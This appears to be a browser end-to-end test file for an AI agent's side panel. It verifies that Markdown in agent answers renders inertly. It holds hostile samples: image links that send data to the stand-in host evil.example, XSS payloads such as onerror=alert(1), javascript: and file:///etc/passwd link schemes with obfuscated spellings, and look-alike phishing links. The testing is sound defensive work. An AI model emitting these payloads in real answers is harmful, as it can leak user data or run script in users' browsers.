import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest';
import { openPanel } from '../e2e/panel/open-panel.ts';
import { ScriptedBackend, say } from '../e2e/panel/scripted-backend.ts';
import { forbiddenNodes, watchRequests } from '../e2e/panel/watch-markdown.ts';
import { launchChromium } from '../e2e/support/launch-chromium.ts';
import type { Panel } from '../e2e/support/panel.ts';
import { type ServedSites, serveSites } from '../e2e/support/serve-sites.ts';
import type { TestBrowser } from '../e2e/support/test-browser.ts';
import { HOSTILE_TEXTS } from './markdown-payloads.ts';

// The real panel in a real browser; the host that the payloads call leads to a server that counts what arrives.
let backend: ScriptedBackend;
let evil: ServedSites;
let browser: TestBrowser;
let panel: Panel;
let strange: string[];

beforeAll(async () => {
  backend = await new ScriptedBackend().listen();
  evil = await serveSites({ 'evil.example': {}, 'shop.example': { '/': '<h1>Shop</h1>' } });
  browser = await launchChromium({ hosts: evil.hosts });
  await browser.openPage(evil.url('shop.example'));
});
afterAll(async () => {
  await browser?.close();
  await evil?.close();
  await backend?.close();
});
beforeEach(async () => {
  evil.requests.length = 0;
  panel = await openPanel(browser, backend);
  strange = watchRequests(panel.page, backend.port);
});

/** Shows texts as answers of the agent and waits until the last one stands there. */
async function show(given: readonly string[], streaming = false): Promise<void> {
  const { host } = new URL(evil.url('evil.example'));
  const texts = given.map((text) => text.replaceAll(/(?<=\/\/)evil\.example/gu, host));
  backend.run = async (input, emit, signal) => {
    texts.forEach((text, index) => {
      emit({ type: 'TEXT_MESSAGE_START', messageId: `t${index}`, role: 'assistant' });
      emit({ type: 'TEXT_MESSAGE_CONTENT', messageId: `t${index}`, delta: text === '' ? ' ' : text });
      if (!streaming) emit({ type: 'TEXT_MESSAGE_END', messageId: `t${index}` });
    });
    await say(input, emit, ['the last word'], { finish: !streaming });
    if (streaming) await new Promise((resolve) => signal.addEventListener('abort', resolve, { once: true }));
  };
  await panel.find('textbox', 'Message');
  await panel.type('textbox', 'Message', 'go');
  await panel.press('Enter');
  await panel.waitForText('the last word', 60_000);
  const drawn = () => panel.page.evaluate(() => document.querySelectorAll('[data-testid="answer"]').length);
  await expect.poll(drawn, { timeout: 60_000 }).toBe(texts.length + 1);
  // Long lists are drawn in slices: wait until nothing changes any more.
  let before = '';
  await expect
    .poll(
      async () => {
        const now = await rendered();
        const settled = now === before;
        before = now;
        return settled;
      },
      { interval: 150, timeout: 60_000 },
    )
    .toBe(true);
}

async function expectHarmless(): Promise<void> {
  expect(await panel.page.evaluate(forbiddenNodes)).toEqual([]);
  expect(strange).toEqual([]);
  expect(evil.requests.filter((request) => request.includes('evil.example'))).toEqual([]);
}

/** The rendered Markdown of the answers, without the last word. */
const rendered = (): Promise<string> =>
  panel.page.evaluate(() =>
    [...document.querySelectorAll('.markdown')]
      .map((node) => node.textContent)
      .join('\n')
      .replace(/the last word$/u, ''),
  );

test('images of every spelling become a text that names them and load nothing (M01, M02, M05, M10)', async () => {
  await show([
    '![secret](http://evil.example/?d=S)',
    '![ref][r]\n\n[r]: http://evil.example/r.png',
    '![slashes](//evil.example/x)',
    '![data](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
    '[![linked](http://evil.example/i.png)](http://evil.example/)',
  ]);
  await expectHarmless();
  const text = await rendered();
  for (const name of ['secret', 'ref', 'slashes', 'data', 'linked']) expect(text).toContain(`image left out: ${name}`);
});

test('raw HTML stays text: media, styles, forms, frames, base and meta (M04, M07, M08, M09, M18)', async () => {
  const html = [
    '<img src=x onerror=alert(1)>',
    '<video poster=http://evil.example/p.png src=http://evil.example/v.mp4></video>',
    '<div style="background:url(http://evil.example/b.png)">x</div>',
    '<link rel=stylesheet href=http://evil.example/c.css><style>@import url(http://evil.example/i.css)</style>',
    '<form action=http://evil.example><input name=a><button formaction=http://evil.example>b</button></form>',
    '<iframe src=http://evil.example></iframe><object data=http://evil.example></object><embed src=http://evil.example>',
    '<base href=http://evil.example/><meta http-equiv=refresh content="0;url=http://evil.example">',
    'text <svg onload=alert(1)><image href=http://evil.example/s.png></svg> text',
  ];
  await show(html);
  await expectHarmless();
  const text = await rendered();
  for (const piece of ['onerror=alert(1)', 'poster=', 'background:url', 'formaction', 'http-equiv=refresh'])
    expect(text).toContain(piece);
});

test('an address that is not http, https or mail is no link (M11, M13, M14)', async () => {
  const schemes = [
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    'java&#10;script:alert(1)',
    'java&Tab;script:alert(1)',
    '&#x6A;avascript:alert(1)',
    '%6aavascript:alert(1)',
    'data:text/html,<script>alert(1)</script>',
    'vbscript:msgbox(1)',
    'file:///etc/passwd',
    'chrome://settings',
    'blob:http://evil.example/1',
    'about:blank',
    'view-source:http://evil.example',
    '//evil.example/x',
    'http://user:pw@evil.example/',
  ];
  await show([
    ...schemes.map((scheme) => `[a](<${scheme}>)`),
    ...schemes.map((scheme) => `<${scheme}>`),
    ...schemes.map((scheme) => `[x][r]\n\n[r]: <${scheme}>`),
  ]);
  await expectHarmless();
  const hrefs = await panel.page.evaluate(() =>
    [...document.querySelectorAll('.markdown a')].map((link) => link.getAttribute('href')),
  );
  expect(hrefs).toEqual([]);
});

test('a link shows the site that it really leads to, whatever its text says (M15)', async () => {
  await show([
    '[https://bank.com](https://login.evil.example/x)',
    '[a](https://bank.com.evil.co.uk/)',
    '[b](https://xn--80ak6aa92e.com/)',
  ]);
  await expectHarmless();
  const sites = await panel.page.evaluate(() =>
    [...document.querySelectorAll('.link-site')].map((site) => site.textContent),
  );
  expect(sites).toEqual(['evil.example', 'evil.co.uk', 'xn--80ak6aa92e.com']);
});

test('a link whose text is its very address is not followed by it again; a look-alike is', async () => {
  await show([
    'Mail <ada@canal.example> or see https://canal.example/terms',
    '[https://bank.com.evil.example/](https://bank.com.evil.example/)',
    '[b\u0430nk.com](https://xn--bnk-5cd.com/)',
  ]);
  const sites = await panel.page.evaluate(() =>
    [...document.querySelectorAll('.link-site')].map((site) => site.textContent),
  );
  expect(sites).toEqual(['evil.example', 'xn--bnk-5cd.com']);
});

test('fenced blocks of every language are inert (M20)', async () => {
  await show([
    '```mermaid\ngraph TD; A-->B; click A href "javascript:alert(1)"\n```',
    '```html\n<img src=http://evil.example/x onerror=alert(1)>\n```',
    '```math\n\\href{javascript:alert(1)}{x}\n```',
    '$$\\href{javascript:alert(1)}{x}$$ and $\\includegraphics{http://evil.example/x}$',
  ]);
  await expectHarmless();
  expect(await rendered()).toContain('onerror=alert(1)');
});

test('no prefix of a streamed text ever becomes something that loads or acts (M19)', { timeout: 240_000 }, async () => {
  const texts = [
    '![x](http://evil.example/?d=S) end',
    '[![x](http://evil.example/i.png)](http://evil.example/) end',
    '<img src="http://evil.example/x" onerror="alert(1)"> end',
    '![x][r]\n\n[r]: http://evil.example/x "t"\n',
    '[a](javascript:alert(1)) <http://evil.example/a> end',
    '| a |\n|---|\n| ![x](http://evil.example/t) |\n',
    '- [ ] ![x](http://evil.example/l)\n',
  ];
  const prefixes = texts.flatMap((text) => Array.from(text, (_, index) => text.slice(0, index + 1)));
  await show(prefixes, true);
  await expectHarmless();
});

test('each hostile text of the list is harmless, finished and half-written (M23)', { timeout: 300_000 }, async () => {
  expect(HOSTILE_TEXTS.length).toBeGreaterThan(700);
  await show(HOSTILE_TEXTS);
  await expectHarmless();
  await panel.click('button', 'New thread');
  await show(
    HOSTILE_TEXTS.map((text) => text.slice(0, Math.ceil(text.length * 0.7))),
    true,
  );
  await expectHarmless();
});

// Last: it opens a tab, whose own requests (its icon) come when they like.
test('a link opens by a real click only, and mail is asked about first (M17)', async () => {
  await show(['[shop](http://evil.example/opened)', '[mail](mailto:a@evil.example?body=SECRET)']);
  await panel.page.evaluate(() => {
    for (const link of document.querySelectorAll<HTMLElement>('.markdown a')) link.click();
  });
  await panel.find('link', 'mail');
  expect(await panel.has('button', 'Open mail')).toBe(false);
  await expectHarmless();

  await panel.click('link', 'mail');
  const text = await panel.waitForText('Write a mail to');
  expect(text).toContain('body=SECRET');
  await expectHarmless();

  await panel.click('link', 'shop');
  await expect.poll(() => evil.requests.join()).toContain('GET evil.example /opened');
  expect(panel.page.url()).toContain('sidepanel.html');
});
